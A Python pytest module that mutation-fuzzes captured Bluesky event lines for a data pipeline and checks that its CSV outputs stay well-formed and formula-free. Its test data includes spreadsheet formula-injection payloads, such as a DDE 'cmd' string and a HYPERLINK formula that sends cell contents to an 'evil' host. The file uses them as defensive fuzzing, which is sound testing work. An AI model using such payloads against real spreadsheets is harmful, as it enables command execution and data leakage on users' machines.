"""Mutation fuzzing of the real sample lines.

The repository's own copy of the captured events is repeated, and half of
the lines are mutated: byte flips, truncation, inserted bytes, a BOM, CRLF,
NUL, JSON values of the wrong type, missing fields, lone surrogates, deep
nesting, huge numbers, odd timestamps and DIDs, and tags and texts made to
become spreadsheet formulas. In-process (make test), the fast and the exact
parse paths must agree on every mutated line; through ./handle-stream (make
chaos) nothing may crash, every line is counted once, every untouched like
is counted, and every CSV stays well-formed. FUZZ_LINES and FUZZ_SEED run
it longer, or differently, by hand.
"""

from __future__ import annotations

import copy
import csv
import functools
import io
import json
import os
import random
import re
import sqlite3
from collections import Counter
from collections.abc import Callable

import pytest

from blueskypipe.aggregate import Aggregator
from blueskypipe.events import Event, Rejected, parse_line
from tests import reference
from tests.helpers import SAMPLE, Pipeline, event, folded, record

FUZZ_LINES = int(os.environ.get("FUZZ_LINES", "100000"))
FUZZ_SEED = int(os.environ.get("FUZZ_SEED", "17"))
REAL_LINES = SAMPLE.read_bytes().splitlines()

NASTY_VALUES: list[object] = [None, True, False, 0, -1, 1.5, "", "x", [], {}, [1, "a"], {"a": 1}, 10**30]
ODD_TIMESTAMPS = [
    "",
    " ",
    "2025-03-16",
    "2025-03-16T13:26",
    "2025-03-16T13:26:53",
    "2025-03-16T13:26:53.0",
    "2025-03-16T13:26:53.0761",
    "2025-03-16T13:26:53.0761751",
    "2025-03-16T13:26:53.076175 ",
    " 2025-03-16T13:26:53.076175",
    "2025-03-16 13:26:53.076175",
    "2025-03-16T13:26:53+01:00",
    "2025-03-16T13:26:53.076175-05:30",
    "2025-03-16T13:26:53Z",
    "2025-03-16T13:26:53,5",
    "2025-W11-7T13:26:53",
    "20250316T132653",
    "2025-03-16T132653",
    "2025-03-16T132653.7",
    "2025-03-16T132653.076175",
    "2025-03-16T13:26:53.7",
    "2025-03-16T24:00:00",
    "2025-02-30T12:00:00",
    "2025-03-16T13:26:60",
    "0001-01-01T00:00:00",
    "9999-12-31T23:59:59.999999",
    "10000-01-01T00:00:00",
    "2025-03-16T13:26:53.-76175",
    "2025-03-16T13:26:53.07_175",
    "２０２５-03-16T13:26:53",
    "2025-03-16T13:26:53.07617５",
    "2025-03-16t13:26:53",
    "now",
    "9" * 100,
]
# Odd DIDs that stay within ASCII on the line (or are written as raw UTF-8).
ODD_DIDS = [
    "did:plc:",
    "did:plc:" + "a" * 2000,
    "did:plc:" + "a" * 2001,
    "did:web:example.com",
    "did:web:localhost%3A8080",
    "did:web:a:b:c",
    "did:key:z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK",
    "DID:PLC:abc",
    "did:PLC:abc",
    "did:plc:=evil",
    "did:plc:+1",
    "did:plc:abc def",
    "did:plc:abc/def",
    "did:plc:abc\tdef",
    "did:plc:abc\u0000",
    '=HYPERLINK("http://x")',
    "+1",
    "-1",
    "@SUM(1)",
    "did:plc:ccccccccccccccccccccccc1",
    "did:plc:été",  # written as raw UTF-8, not \u escapes
]
# A DID of letters outside ASCII, sent as \u escapes in an ASCII line.
ESCAPED_NON_ASCII_DID = "did:plc:\u00e9t\u00e9"


def as_bluesky_prints(line: bytes) -> bytes:
    """`line` re-encoded as ./bluesky writes it: json.dumps, ASCII with \\u escapes."""
    return json.dumps(json.loads(line)).encode()


FORMULA_TAGS = ["=cmd|' /C calc'!A0", "+en", "-de", "@fr", "=1+1", "en;=x", "en =x", "\t=x", "=en", "en-=1"]
FORMULA_TEXTS = [
    'engineering =HYPERLINK("http://evil/?x="&A1) +cmd -rm @SUM(1)',
    "=engineering +engineering -engineering @engineering",
    "#engineering #=evil =1+1 =A1 +A1 -A1 @A1",
    "engineering\t=cmd|' /C calc'!A0\r\n+formula",
    "Engineering ＝ＳＵＭ（１） ＋１ ﹦x",
]


def _flip(line: bytes, rng: random.Random) -> bytes:
    at = rng.randrange(len(line))
    byte = line[at] ^ (1 << rng.randrange(8))
    if byte == 0x0A:  # a newline would make two lines of one
        byte ^= 0x80
    return line[:at] + bytes([byte]) + line[at + 1 :]


def _insert(line: bytes, rng: random.Random) -> bytes:
    at = rng.randrange(len(line) + 1)
    extra = bytes(rng.choice([b for b in range(256) if b != 0x0A]) for _ in range(rng.randrange(1, 9)))
    return line[:at] + extra + line[at:]


def _nul(line: bytes, rng: random.Random) -> bytes:
    at = rng.randrange(len(line) + 1)
    return line[:at] + b"\0" + line[at:]


def _json(mutate: Callable[[dict, random.Random], object]) -> Callable[[bytes, random.Random], bytes]:
    """A mutation of the decoded event, written back as ./bluesky writes it (ASCII)."""

    def apply(line: bytes, rng: random.Random) -> bytes:
        obj = json.loads(line)
        raw = mutate(obj, rng)
        text = json.dumps(obj)
        if isinstance(raw, tuple):  # (placeholder, bytes to splice in)
            return text.encode().replace(json.dumps(raw[0]).encode(), raw[1], 1)
        return text.encode()

    return apply


def _containers(obj: object) -> list[dict]:
    found = []
    if isinstance(obj, dict):
        found.append(obj)
        for value in obj.values():
            found += _containers(value)
    elif isinstance(obj, list):
        for value in obj:
            found += _containers(value)
    return found


def _some_key(obj: dict, rng: random.Random) -> tuple[dict, str]:
    # Half the time a field the pipeline reads, else any field at any depth.
    record = obj.get("record")
    known = [(obj, key) for key in ("timestamp", "path", "repo", "action", "record") if key in obj]
    if isinstance(record, dict):
        known += [(record, key) for key in ("text", "langs", "subject") if key in record]
    if rng.random() < 0.5:
        return rng.choice(known)
    container = rng.choice([c for c in _containers(obj) if c])
    return container, rng.choice(sorted(container))


def _swap_type(obj: dict, rng: random.Random) -> None:
    container, key = _some_key(obj, rng)
    container[key] = rng.choice(NASTY_VALUES)


def _drop_field(obj: dict, rng: random.Random) -> None:
    container, key = _some_key(obj, rng)
    del container[key]


def _lone_surrogate(obj: dict, rng: random.Random) -> None:
    container, key = _some_key(obj, rng)
    value = container[key]
    text = value if isinstance(value, str) else "x"
    at = rng.randrange(len(text) + 1)
    container[key] = text[:at] + rng.choice(["\ud800", "\udfff", "\udbff\u0041"]) + text[at:]


def _deep(obj: dict, rng: random.Random) -> tuple[str, bytes]:
    depth = 100_000 if rng.random() < 0.02 else rng.choice([2, 64, 512, 1000, 1023, 1024, 1025, 4096])
    open_, close = rng.choice([(b"[", b"]"), (b'{"a":', b"}")])
    record = obj.get("record")
    target = record if isinstance(record, dict) and rng.random() < 0.5 else obj
    target["deep"] = "@deep@"
    return "@deep@", open_ * depth + b"0" + close * depth


def _huge_number(obj: dict, rng: random.Random) -> tuple[str, bytes]:
    container, key = _some_key(obj, rng)
    container[key] = "@number@"
    number = rng.choice(
        [b"1e400", b"-1e400", b"1e-400", b"1" + b"0" * 400, b"-" + b"9" * 30, b"1.5e308", b"1" + b"0" * 5000]
    )
    return "@number@", number


def _odd_timestamp(obj: dict, rng: random.Random) -> None:
    obj["timestamp"] = rng.choice(ODD_TIMESTAMPS)


def _odd_did(line: bytes, rng: random.Random) -> bytes:
    obj = json.loads(line)
    obj["repo"] = rng.choice(ODD_DIDS)
    return json.dumps(obj, ensure_ascii=False).encode()


POSTS = [json.loads(line) for line in REAL_LINES if b'"path": "app.bsky.feed.post/' in line]


def _formula(line: bytes, rng: random.Random) -> bytes:
    obj = copy.deepcopy(rng.choice(POSTS)) if rng.random() < 0.8 else json.loads(line)
    record = obj["record"] if isinstance(obj.get("record"), dict) else {}
    obj["record"] = record
    record["langs"] = rng.sample(FORMULA_TAGS, rng.randrange(1, 4))
    record["text"] = rng.choice(FORMULA_TEXTS)
    return json.dumps(obj).encode()


MUTATIONS: dict[str, Callable[[bytes, random.Random], bytes]] = {
    "byte flip": _flip,
    "truncation": lambda line, rng: line[: rng.randrange(len(line))],
    "inserted bytes": _insert,
    "BOM": lambda line, _: b"\xef\xbb\xbf" + line,
    "CRLF": lambda line, _: line + b"\r",
    "NUL": _nul,
    "type swap": _json(_swap_type),
    "missing field": _json(_drop_field),
    "lone surrogate": _json(_lone_surrogate),
    "deep nesting": _json(_deep),
    "huge number": _json(_huge_number),
    "odd timestamp": _json(_odd_timestamp),
    "odd DID": _odd_did,
    "formula": _formula,
}


@functools.cache
def fuzz_lines(count: int, seed: int) -> list[tuple[str | None, bytes]]:
    """`count` lines cycling through the real sample, half of them mutated:
    (mutation, line), with None for a line left as captured. The first pass
    over the sample is left whole, so that every collection is known from
    the start (the fast path takes only those the exact path has seen)."""
    rng = random.Random(seed)
    kinds = sorted(MUTATIONS)
    out: list[tuple[str | None, bytes]] = []
    for i in range(count):
        line = REAL_LINES[i % len(REAL_LINES)]
        if i < len(REAL_LINES) or rng.random() < 0.5:
            out.append((None, line))
        else:
            kind = rng.choice(kinds)
            out.append((kind, MUTATIONS[kind](line, rng)))
    return out


def verdict(parse: Callable[[bytes], Event], line: bytes) -> Event | str:
    try:
        return parse(line)
    except Rejected as exc:
        return exc.reason


# Kinds whose lines the fuzz must see both accepted and rejected.
EITHER_WAY = {
    "byte flip",
    "deep nesting",
    "huge number",
    "inserted bytes",
    "missing field",
    "odd DID",
    "odd timestamp",
    "type swap",
}


@pytest.mark.parametrize("kind", sorted(MUTATIONS))
def test_the_fast_path_and_parse_line_agree_on_mutated_lines(kind: str) -> None:
    # Each mutated line after its real line, whose second and collection the
    # fast path then knows; against the same line through parse_line alone.
    cases = [
        (REAL_LINES[i % len(REAL_LINES)], line)
        for i, (k, line) in enumerate(fuzz_lines(FUZZ_LINES, FUZZ_SEED))
        if k == kind
    ]
    assert len(cases) > FUZZ_LINES // 50
    disagree = [line[:200] for real, line in cases if folded(line, after=real) != folded(line, after=None)]
    assert not disagree, f"{len(disagree)} of {len(cases)} lines, first: {disagree[:3]}"
    accepted = {isinstance(verdict(parse_line, line), Event) for _, line in cases}
    if kind in EITHER_WAY:
        assert accepted == {True, False}


def test_chunks_of_any_size_fold_as_every_line_alone() -> None:
    # Across lines: the timestamp cache's history, minutes changing inside a
    # chunk, first and last times. Each line alone, with a new aggregator,
    # goes through parse_line.
    rng = random.Random(FUZZ_SEED)
    lines = [line for _, line in fuzz_lines(FUZZ_LINES, FUZZ_SEED)][:20_000]
    aggregator = Aggregator()
    at = 0
    while at < len(lines):
        size = rng.choice([1, 2, 7, 100, 1000, 5000])
        aggregator.add_lines(lines[at : at + size])
        at += size
    together = aggregator.take_batch(final=True)
    alone = [folded(line, after=None) for line in lines]
    for name in ("likes_by_minute", "by_collection", "posts_by_lang", "rejects"):
        total: Counter[str] = Counter()
        for batch in alone:
            total.update(getattr(batch, name))
        assert Counter(getattr(together, name)) == total, name
    # A word counts once per voice (docs/metrics.md#one-voice-counts-once):
    # that depends on the lines before, so the words are compared with one
    # aggregator fed a line at a time.
    one_by_one = Aggregator()
    for line in lines:
        one_by_one.add_lines([line])
    assert together.word_counts == one_by_one.take_batch(final=True).word_counts
    assert together.ignored_actions == sum(batch.ignored_actions for batch in alone)
    # The first and last event times are judged against the stream's time
    # (docs/metrics.md#time), which a line alone does not have: only their
    # presence is compared here; test_aggregate checks their values.
    assert (together.first_event_time is None) == (together.last_event_time is None) == (together.events == 0)


def test_an_escaped_non_ascii_did_is_rejected_on_both_paths() -> None:
    line = as_bluesky_prints(event("2025-03-16T13:26:53.076175", repo=ESCAPED_NON_ASCII_DID))
    assert line.isascii()
    fast, exact = folded(line, after=REAL_LINES[0]), folded(line, after=None)
    assert fast == exact
    assert exact.rejects == {"bad_repo": 1}


def test_every_mutation_is_exercised() -> None:
    kinds = Counter(kind for kind, _ in fuzz_lines(FUZZ_LINES, FUZZ_SEED))
    assert set(kinds) == {None, *MUTATIONS}
    assert abs(kinds[None] - FUZZ_LINES / 2) < FUZZ_LINES / 50


def test_escaped_non_ascii_did_never_becomes_a_label(pipeline: Pipeline) -> None:
    likes = [
        as_bluesky_prints(event(f"2025-03-16T12:00:{s:02d}.5", repo=ESCAPED_NON_ASCII_DID)) for s in range(55)
    ]
    pipeline.ingest(likes)
    pipeline.periodic()
    check_csvs(pipeline)


# What a label of each file may be (the first column); the second is a count.
LABELS = {
    "likes-per-minutes.csv": (("time", "likes"), re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:00")),
    "fast-likers.csv": (("user_id", "likes"), re.compile(r"did:(?:plc|web):[A-Za-z0-9._:%-]+")),
    "top-10-word.csv": (("word", "authors"), re.compile(r"[^\W\d_]+")),
    "posts-per-language.csv": (("lang", "posts"), re.compile(r"[a-z]{2,3}|unknown|invalid")),
}


def check_csvs(pipeline: Pipeline) -> dict[str, int]:
    """Every CSV is UTF-8 with \\n ends, a header and two columns, labels that
    pass their rule (so never a formula), counts that are whole numbers in
    order; returns the number of rows of each."""
    rows_of = {}
    for name, (header, label) in LABELS.items():
        data = (pipeline.metrics / name).read_bytes()
        text = data.decode("utf-8")
        assert text.endswith("\n") and "\r" not in text, name
        rows = list(csv.reader(io.StringIO(text), strict=True))
        assert tuple(rows[0]) == header, name
        for row in rows[1:]:
            assert len(row) == 2, (name, row)
            assert label.fullmatch(row[0]), (name, row)
            assert name != "top-10-word.csv" or row[0] == row[0].lower(), row
            assert row[0][:1] not in ("=", "+", "-", "@"), (name, row)
            assert row[1].isascii() and row[1].isdigit() and int(row[1]) > 0, (name, row)
        rows_of[name] = len(rows) - 1
    labels = [row[0] for row in _rows(pipeline, "likes-per-minutes.csv")]
    assert labels == sorted(set(labels))
    for name in ("fast-likers.csv", "top-10-word.csv", "posts-per-language.csv"):
        counts = [int(row[1]) for row in _rows(pipeline, name)]
        assert counts == sorted(counts, reverse=True), name
    assert all(int(row[1]) >= 50 for row in _rows(pipeline, "fast-likers.csv"))
    assert rows_of["top-10-word.csv"] <= 10 and rows_of["posts-per-language.csv"] <= 25
    return rows_of


def _rows(pipeline: Pipeline, name: str) -> list[list[str]]:
    return pipeline.csv(name)[1:]


@pytest.mark.chaos
def test_mutated_real_lines_through_handle_stream(pipeline: Pipeline) -> None:
    lines = fuzz_lines(FUZZ_LINES, FUZZ_SEED)
    result = pipeline.ingest([line for _, line in lines])
    stderr = result.stderr.decode()
    assert "Traceback" not in stderr
    assert stderr.count("\n") < 100, "stderr must stay rate-limited"
    with sqlite3.connect(pipeline.db) as conn:
        assert conn.execute("pragma integrity_check").fetchone()[0] == "ok"
        counts = dict(conn.execute("select name, n from ingest_counts").fetchall())
    # Every line is counted once, as an event or as a rejected line.
    assert counts["lines"] == len(lines)
    assert counts["events"] + counts["rejected"] == counts["lines"]
    rejects = {k.removeprefix("rejected:"): n for k, n in counts.items() if k.startswith("rejected:")}
    assert sum(rejects.values()) == counts["rejected"]
    # Every untouched like is counted, in its own minute: the reference minute
    # counts of the untouched lines, plus those of the mutated lines the
    # parser accepts as likes, are exactly the CSV.
    untouched = reference.valid_events([line for kind, line in lines if kind is None])
    per_minute = Counter({minute: int(n) for minute, n in reference.likes_per_minute(untouched)[1:]})
    accepted = [verdict(parse_line, line) for kind, line in lines if kind is not None]
    per_minute.update(
        e.minute + ":00"
        for e in accepted
        if isinstance(e, Event) and e.collection == reference.LIKE and e.action == "create"
    )
    assert rejects == Counter(e for e in accepted if isinstance(e, str))
    pipeline.periodic()
    assert pipeline.csv("likes-per-minutes.csv")[1:] == [[m, str(n)] for m, n in sorted(per_minute.items())]
    rows = check_csvs(pipeline)
    assert rows["fast-likers.csv"] and rows["top-10-word.csv"]
    mutated = Counter(kind for kind, _ in lines if kind is not None)
    record(
        "fuzz",
        lines=len(lines),
        mutated=sum(mutated.values()),
        kinds=len(mutated),
        events=counts["events"],
        rejected=counts["rejected"],
        reasons=dict(sorted(rejects.items())),
        seed=FUZZ_SEED,
    )


@pytest.mark.parametrize("kind", sorted(MUTATIONS))
def test_the_reference_accepts_exactly_the_lines_parse_line_accepts(kind: str) -> None:
    # The reference validates on its own (json, its own patterns), so that
    # the CSVs it computes are an independent answer: on every mutated line
    # it must accept what the pipeline accepts, and reject what it rejects.
    lines = [line for k, line in fuzz_lines(FUZZ_LINES, FUZZ_SEED) if k == kind][:1000]
    differ = [
        line[:200]
        for line in lines
        if (reference.event_of(line) is None) != isinstance(verdict(parse_line, line), str)
    ]
    assert differ == [], differ[:3]
    if kind in EITHER_WAY:
        assert any(reference.event_of(line) is None for line in lines), "some lines must be rejected"
